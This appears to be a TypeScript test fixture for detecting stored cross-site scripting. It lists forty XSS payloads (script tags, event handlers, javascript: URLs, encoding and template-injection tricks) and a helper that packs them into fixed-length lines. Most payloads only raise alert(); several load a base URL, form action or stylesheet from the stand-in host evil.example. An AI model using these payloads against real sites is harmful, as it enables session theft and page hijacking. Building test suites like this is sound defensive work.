// What people have tried to get run by a page that shows a stored value: one line each, at most 80 characters.
//
// `alert` is the marker that Chromium reports as a dialog; `id=xss` marks whatever element a payload would make.

export const PAYLOADS: readonly string[] = [
  '<script>alert(1)</script>',
  '"><script>alert(2)</script>',
  "'><script>alert(3)</script>",
  '</title><script>alert(4)</script>',
  '</textarea><script>alert(5)</script>',
  '</script><script>alert(6)</script>',
  '<img id=xss src=x onerror=alert(7)>',
  '"><img id=xss src=x onerror=alert(8)>',
  '<svg id=xss onload=alert(9)>',
  '<svg><script id=xss>alert(10)</script></svg>',
  '<svg><animate id=xss onbegin=alert(11) attributeName=x dur=1s>',
  '<iframe id=xss srcdoc="<script>parent.alert(12)</script>">',
  '<iframe id=xss src=javascript:alert(13)>',
  '<a id=xss href=javascript:alert(14)>click</a>',
  'javascript:alert(15)',
  'data:text/html,<script>alert(16)</script>',
  '<body id=xss onload=alert(17)>',
  '<input id=xss autofocus onfocus=alert(18)>',
  '" autofocus onfocus=alert(19) id=xss x="',
  "' autofocus onfocus=alert(20) id=xss x='",
  '<details id=xss open ontoggle=alert(21)>',
  '<video id=xss><source onerror=alert(22)></video>',
  '<math id=xss><mtext><style><img src=x onerror=alert(23)>',
  '<object id=xss data=javascript:alert(24)>',
  '<meta id=xss http-equiv=refresh content="0;url=javascript:alert(25)">',
  '<base id=xss href=//evil.example/>',
  '<form id=xss action=//evil.example><button formaction=javascript:alert(27)>',
  '<style id=xss>*{background:url(//evil.example/28)}</style>',
  '<link id=xss rel=stylesheet href=//evil.example/29>',
  '<noscript><p title="</noscript><img id=xss src=x onerror=alert(30)>">',
  '&lt;img id=xss src=x onerror=alert(31)&gt;',
  '&#60;img id=xss src=x onerror=alert(32)&#62;',
  '{{constructor.constructor("alert(33)")()}}',
  '${alert(34)}',
  ']]><script>alert(35)</script>',
  '<!--><img id=xss src=x onerror=alert(36)>',
  '%3Cimg%20id=xss%20src=x%20onerror=alert(37)%3E',
  '\\u003cimg id=xss src=x onerror=alert(38)\\u003e',
  '<xss id=xss onpointerenter=alert(39) style=position:fixed;inset:0>',
  '＜script＞alert(40)＜/script＞',
];

/** As many payloads, from the `first`, as fit one line of `most` characters. */
export function fill(most: number, first = 0): string {
  let line = '';
  for (let n = 0; n < PAYLOADS.length; n += 1) {
    const next = PAYLOADS[(first + n) % PAYLOADS.length] ?? '';
    if (line.length + 1 + next.length > most) break;
    line += line === '' ? next : ` ${next}`;
  }
  return line;
}
